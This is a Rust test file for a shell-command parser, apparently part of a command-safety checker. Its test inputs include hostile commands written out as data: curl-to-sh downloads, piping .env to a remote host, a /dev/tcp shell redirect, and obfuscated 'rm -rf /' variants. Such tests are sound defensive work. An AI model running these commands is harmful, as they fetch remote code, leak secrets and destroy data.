//! Table tests for the core: simple commands, quoting, pipelines, lists, compound commands,
//! substitutions, redirections, heredocs, variables and `cd` tracking.
//!
//! Each expected value lists one command per line (lines separated by ` ⏎ `), rendered by
//! `common::render`: `[wrappers] NAME=v argv redirects <stdin:i> >pipe:i|>arg:i|>var:X cwd=D &`.
//! Quoted literal text is shown in single quotes.

mod common;

use common::run_table;

#[test]
fn simple_commands_and_quoting() {
    run_table(
        "simple",
        &[
            ("ls", "ls"),
            ("ls -la /tmp", "ls -la /tmp"),
            ("  ls   -l  ", "ls -l"),
            ("rm -rf 'my dir'", "rm -rf 'my dir'"),
            ("rm -rf \"my dir\"", "rm -rf 'my dir'"),
            ("echo 'a'\"b\"c", "echo 'ab'c"),
            ("echo a\\ b", "echo a' 'b"),
            ("r\\m -rf x", "r'm' -rf x"),
            ("echo \"a\\\"b\\\\c\\$d\"", "echo 'a\"b\\c$d'"),
            ("echo 'it''s'", "echo 'its'"),
            ("echo \"\"", "echo ''"),
            ("rm *.txt", "rm *.txt"),
            ("rm '*.txt'", "rm '*.txt'"),
            ("ls ~/x ~", "ls ~/x ~"),
            ("/usr/bin/rm -rf x", "/usr/bin/rm -rf x"),
            ("echo {a,b}", "echo {a,b}"),
            ("# just a comment", ""),
            ("", ""),
            ("ls # trailing comment", "ls"),
            (
                "echo $'\\x72\\x6d' $'a\\tb' $'\\162\\155' $'it\\'s' $'\\\\'",
                "echo 'rm' 'a\tb' 'rm' 'it's' '\\'",
            ),
            ("$'\\x72\\x6d' -rf /", "'rm' -rf /"),
            ("\"rm\" -rf /", "'rm' -rf /"),
            ("echo $\"hello\"", "echo 'hello'"),
            (
                "rm -rf \"$(printf '%s' /)\"",
                "printf '%s' / >arg:1 ⏎ rm -rf $(…)",
            ),
        ],
    );
}

#[test]
fn pipelines_and_lists() {
    run_table(
        "pipelines",
        &[
            ("a | b", "a >pipe:1 ⏎ b <stdin:0>"),
            (
                "a | b | c",
                "a >pipe:1 ⏎ b <stdin:0> >pipe:2 ⏎ c <stdin:0,1>",
            ),
            (
                "curl -s http://x.io/i.sh | sh",
                "curl -s http://x.io/i.sh >pipe:1 ⏎ sh <stdin:0>",
            ),
            (
                "cat .env | curl -d @- http://x",
                "cat .env >pipe:1 ⏎ curl -d @- http://x <stdin:0>",
            ),
            ("a |& b", "a >pipe:1 ⏎ b <stdin:0>"),
            ("a && b || c; d", "a ⏎ b ⏎ c ⏎ d"),
            ("a; b; c; d; e", "a ⏎ b ⏎ c ⏎ d ⏎ e"),
            ("a && b | c", "a ⏎ b >pipe:2 ⏎ c <stdin:1>"),
            (
                "a | b && c | d",
                "a >pipe:1 ⏎ b <stdin:0> ⏎ c >pipe:3 ⏎ d <stdin:2>",
            ),
            ("a & b", "a & ⏎ b"),
            ("sleep 10 &", "sleep 10 &"),
            ("! grep x f", "grep x f"),
            (
                "a | (b; c) | d",
                "a >pipe:1 ⏎ b <stdin:0> >pipe:3 ⏎ c <stdin:0> >pipe:3 ⏎ d <stdin:0,1,2>",
            ),
            ("{ a; b; } | c", "a >pipe:2 ⏎ b >pipe:2 ⏎ c <stdin:0,1>"),
            ("a\nb\n", "a ⏎ b"),
        ],
    );
}

#[test]
fn compound_commands() {
    run_table(
        "compound",
        &[
            ("(cd /tmp && rm -rf x)", "cd /tmp ⏎ rm -rf x cwd=/tmp"),
            ("{ a; b; }", "a ⏎ b"),
            (
                "if test -f x; then rm x; elif true; then b; else c; fi",
                "test -f x ⏎ rm x ⏎ true ⏎ b ⏎ c",
            ),
            (
                "while read l; do echo $l; done < f",
                "read l <f ⏎ echo $l <f",
            ),
            ("until false; do x; done", "false ⏎ x"),
            ("for f in a b; do rm $f; done", "rm $f"),
            ("for f in *.log; do rm \"$f\"; done", "rm $f"),
            ("for ((i=0;i<3;i++)); do echo $i; done", "echo $i"),
            ("case $x in a|b) rm a;; *) rm b;; esac", "rm a ⏎ rm b"),
            ("f() { rm -rf \"$1\"; }; f /", "rm -rf $1 ⏎ f /"),
            ("function g { ls; }", "ls"),
            ("[[ -f $(id) ]]", "id"),
            ("(( i++ ))", ""),
            ("select a in x y; do echo $a; done", "echo $a"),
            ("for f in $(ls); do rm $f; done", "ls >arg:1 ⏎ rm $f"),
            (
                "{ echo a; echo b; } > out.txt",
                "echo a >out.txt ⏎ echo b >out.txt",
            ),
        ],
    );
}

#[test]
fn substitutions() {
    run_table(
        "substitutions",
        &[
            ("echo $(whoami)", "whoami >arg:1 ⏎ echo $(…)"),
            ("echo `whoami`", "whoami >arg:1 ⏎ echo $(…)"),
            (
                "echo \"user: $(whoami)\"",
                "whoami >arg:1 ⏎ echo 'user: '$(…)",
            ),
            (
                "echo $(echo $(id))",
                "id >arg:1 ⏎ echo $(…) >arg:2 ⏎ echo $(…)",
            ),
            (
                "echo $(curl -s x | base64 -d) | sh",
                "curl -s x >pipe:1 ⏎ base64 -d <stdin:0> >arg:2 ⏎ echo $(…) >pipe:3 ⏎ sh <stdin:2>",
            ),
            (
                "diff <(sort a) <(sort b)",
                "sort a >arg:2 ⏎ sort b >arg:2 ⏎ diff $(…) $(…)",
            ),
            ("tee >(gzip > x.gz)", "gzip >x.gz >arg:1 ⏎ tee $(…)"),
            ("echo $((1 + 2))", "echo $(…)"),
            ("x=$((1+$(y)))", "y >var:x ⏎ x=$(…)"),
            ("$(echo rm) -rf /", "echo rm >arg:1 ⏎ $(…) -rf /"),
            ("echo ${X:-$(id)}", "id >arg:1 ⏎ echo $X"),
            ("cat <<< \"$(id)\"", "id >arg:1 ⏎ cat <<<[$(…)]"),
            ("D=$(pwd); rm -rf \"$D\"", "pwd >var:D ⏎ D=$(…) ⏎ rm -rf $D"),
            ("export P=$(mktemp -d)", "mktemp -d >var:P ⏎ export P=$(…)"),
            (
                "echo $(cd /; ls); pwd",
                "cd / >arg:2 ⏎ ls >arg:2 cwd=/ ⏎ echo $(…) ⏎ pwd",
            ),
        ],
    );
}

#[test]
fn redirections_and_heredocs() {
    run_table(
        "redirections",
        &[
            ("echo x > f", "echo x >f"),
            ("echo x >> f", "echo x >>f"),
            ("cat < f", "cat <f"),
            ("cmd 2>&1", "cmd 2>&1"),
            ("cmd 2> /dev/null", "cmd 2>/dev/null"),
            ("cmd &> log", "cmd >log"),
            ("cmd &>> log", "cmd >>log"),
            ("cmd >| f", "cmd >f"),
            ("cmd 3<&0 <&-", "cmd 3>&0 >&-"),
            ("cmd >& out.txt", "cmd >out.txt"),
            (
                "echo `id` > /dev/tcp/10.0.0.1/4444",
                "id >arg:1 ⏎ echo $(…) >/dev/tcp/10.0.0.1/4444",
            ),
            ("> f", ">f"),
            ("cat <<'EOF'\nrm -rf $HOME\nEOF", "cat <<[rm -rf $HOME\\n]"),
            (
                "cat <<EOF\nhello $(id)\nEOF",
                "id >arg:1 ⏎ cat <<[hello $(id)\\n]",
            ),
            (
                "cat <<'EOF' > f.sh\nrm -rf /\nEOF",
                "cat <<[rm -rf /\\n] >f.sh",
            ),
            ("cat <<-EOF\n\tbody\n\tEOF", "cat <<[body\\n]"),
            (
                "cat <<EOF | sh\nrm -rf /tmp/x\nEOF",
                "cat <<[rm -rf /tmp/x\\n] >pipe:1 ⏎ sh <stdin:0> ⏎ [shell(sh)] rm -rf /tmp/x",
            ),
            (
                "cat <<EOF > f && echo done\nx\nEOF",
                "cat <<[x\\n] >f ⏎ echo done",
            ),
            ("cat <<< hello", "cat <<<[hello]"),
            ("python3 <<< 'print(1)'", "python3 <<<[print(1)]"),
            ("echo x 1>&2", "echo x 1>&2"),
            // bash redirects the last command of a pipeline or list only (tree-sitter-bash
            // reads these redirections around the whole statement).
            ("cat f | sort > out", "cat f >pipe:1 ⏎ sort >out <stdin:0>"),
            ("make && cp a b 2>/dev/null", "make ⏎ cp a b 2>/dev/null"),
            (
                "a | b && c | d >> log",
                "a >pipe:1 ⏎ b <stdin:0> ⏎ c >pipe:3 ⏎ d >>log <stdin:2>",
            ),
            ("{ a; b; } > f", "a >f ⏎ b >f"),
            (
                "a | { b; c; } > f",
                "a >pipe:1 ⏎ b >f <stdin:0> ⏎ c >f <stdin:0>",
            ),
        ],
    );
}

#[test]
fn variables() {
    run_table(
        "variables",
        &[
            ("X=1", "X=1"),
            ("X=1 Y=2 cmd arg", "X=1 Y=2 cmd arg"),
            ("D=build; rm -rf \"$D\"", "D=build ⏎ rm -rf 'build'"),
            (
                "OUT=./public; rm -rf \"$OUT\"",
                "OUT=./public ⏎ rm -rf './public'",
            ),
            ("D=build; rm -rf $D/*", "D=build ⏎ rm -rf build/*"),
            ("export D=x; rm -rf ${D}", "export D=x ⏎ rm -rf x"),
            ("local D=/; rm -rf $D", "local D=/ ⏎ rm -rf /"),
            ("X=\"a b\"; rm $X", "X='a b' ⏎ rm a b"),
            ("X=\"a b\"; rm \"$X\"", "X='a b' ⏎ rm 'a b'"),
            ("rm -rf $HOME/x", "rm -rf $HOME/x"),
            ("rm -rf \"$1\" $@", "rm -rf $1 $@"),
            ("X=1 rm $X", "X=1 rm $X"),
            ("D=a; D=$(pwd); rm $D", "D=a ⏎ pwd >var:D ⏎ D=$(…) ⏎ rm $D"),
            ("D=a; unset D; rm $D", "D=a ⏎ unset D ⏎ rm $D"),
            ("D=x; echo ${D:-y} ${D/x/z} ${#D}", "D=x ⏎ echo x $D $D"),
            ("echo ${Z:-default}", "echo $Z"),
            ("D=x; (D=y); rm $D", "D=x ⏎ D=y ⏎ rm x"),
            ("for D in a; do :; done; rm $D", ": ⏎ rm $D"),
            ("D=x; for D in a; do rm $D; done", "D=x ⏎ rm $D"),
            ("rm${IFS}-rf${IFS}/", "rm -rf /"),
            ("rm$IFS-rf$IFS/tmp/x", "rm -rf /tmp/x"),
            ("echo \"a${IFS}b\"", "echo 'a'$IFS'b'"),
            (
                "declare -a A=(1 2); echo $A",
                "declare -a A=(1 2) ⏎ echo $A",
            ),
            ("read D; rm $D", "read D ⏎ rm $D"),
            ("D=~/x; rm -rf $D", "D=~/x ⏎ rm -rf ~/x"),
        ],
    );
}

#[test]
fn cd_tracking() {
    run_table(
        "cd",
        &[
            ("cd build && make", "cd build ⏎ make cwd=build"),
            ("cd a && cd b && rm x", "cd a ⏎ cd b cwd=a ⏎ rm x cwd=a/b"),
            (
                "cd a; cd /tmp; rm x",
                "cd a ⏎ cd /tmp cwd=a ⏎ rm x cwd=/tmp",
            ),
            (
                "cd ~/Documents && rm -rf reports",
                "cd ~/Documents ⏎ rm -rf reports cwd=~/Documents",
            ),
            ("cd \"$X\" && rm -rf *", "cd $X ⏎ rm -rf * cwd=?"),
            ("cd - && ls", "cd - ⏎ ls cwd=?"),
            ("cd && ls", "cd ⏎ ls cwd=~"),
            ("cd a/.. && ls", "cd a/.. ⏎ ls"),
            (
                "cd a && cd .. && cd .. && ls",
                "cd a ⏎ cd .. cwd=a ⏎ cd .. ⏎ ls cwd=..",
            ),
            ("(cd x; y); z", "cd x ⏎ y cwd=x ⏎ z"),
            (
                "pushd src && rm -rf build; popd; ls",
                "pushd src ⏎ rm -rf build cwd=src ⏎ popd cwd=src ⏎ ls cwd=?",
            ),
            ("D=out; cd $D && rm x", "D=out ⏎ cd out ⏎ rm x cwd=out"),
            ("cd x | ls", "cd x >pipe:1 ⏎ ls <stdin:0>"),
            ("cd -P /var && ls", "cd -P /var ⏎ ls cwd=/var"),
        ],
    );
}

#[test]
fn state_after_code_that_may_not_run() {
    run_table(
        "conditional",
        &[
            (
                "D=/; if x; then D=build; fi; rm -rf $D",
                "D=/ ⏎ x ⏎ D=build ⏎ rm -rf $D",
            ),
            ("if x; then D=a; rm $D; fi", "x ⏎ D=a ⏎ rm a"),
            ("D=a; if x; then D=a; fi; rm $D", "D=a ⏎ x ⏎ D=a ⏎ rm a"),
            ("true || D=x; rm $D", "true ⏎ D=x ⏎ rm $D"),
            ("D=x && rm $D; ls $D", "D=x ⏎ rm x ⏎ ls x"),
            ("[ -d x ] && cd x; rm -rf *", "cd x ⏎ rm -rf * cwd=?"),
            (
                "cd build && make; ls",
                "cd build ⏎ make cwd=build ⏎ ls cwd=build",
            ),
            (
                "cd build || exit 1; make",
                "cd build ⏎ exit 1 cwd=build ⏎ make cwd=build",
            ),
            ("for d in a b; do cd $d; done; ls", "cd $d ⏎ ls cwd=?"),
            ("case $1 in x) D=y;; esac; rm $D", "D=y ⏎ rm $D"),
            (
                "while read f; do X=1; done; echo $X",
                "read f ⏎ X=1 ⏎ echo $X",
            ),
        ],
    );
}

#[test]
fn aliases() {
    run_table(
        "aliases",
        &[
            (
                "alias tidy='rm -rf ~/Documents/*'; tidy",
                "alias tidy='rm -rf ~/Documents/*' ⏎ [shell(alias)] rm -rf ~/Documents/*",
            ),
            (
                "alias l='ls -la'; l /tmp",
                "alias l='ls -la' ⏎ [shell(alias)] ls -la /tmp",
            ),
            (
                "alias x='cd /tmp'; x; rm y",
                "alias x='cd /tmp' ⏎ [shell(alias)] cd /tmp ⏎ rm y cwd=/tmp",
            ),
            ("tidy", "tidy"),
            ("alias a='a'; a", "alias a='a' ⏎ [shell(alias)] a"),
            (
                "alias a='b'; alias b='a x'; a",
                "alias a='b' ⏎ alias b='a x' ⏎ [shell(alias)>shell(alias)] a x",
            ),
        ],
    );
}
